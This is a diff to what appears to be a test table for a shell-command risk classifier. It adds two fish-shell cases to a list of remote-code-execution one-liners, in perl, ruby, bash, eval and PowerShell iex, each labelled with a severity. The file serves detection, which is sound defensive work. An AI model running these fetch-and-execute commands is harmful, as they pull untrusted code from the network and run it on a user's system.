@@ -21,6 +21,8 @@ def _worst(cmd):
     ("""perl -MLWP::Simple -e 'eval get("http://198.51.100.23/x.pl")'""", "remote-exec", Severity.CRITICAL),
     ("""ruby -ropen-uri -e 'eval URI.open("https://gems-cdn.dev/x.rb").read'""", "remote-exec", Severity.HIGH),
     ("source <(curl -s https://x.dev/env.sh)", "remote-exec", Severity.HIGH),
+    ("curl -sL https://env.x.dev/team.fish | source", "remote-exec", Severity.HIGH),  # fish: `source` reads stdin
+    ("wget -qO- https://env.x.dev/team.fish | fish", "remote-exec", Severity.HIGH),
     ("bash <(wget -qO- https://x.dev/env.sh)", "remote-exec", Severity.HIGH),
     ("eval \"$(curl -fsSL https://x.dev/env)\"", "remote-exec", Severity.HIGH),
     ("iex (New-Object Net.WebClient).DownloadString('https://x.dev/a.ps1')", "remote-exec", Severity.HIGH),
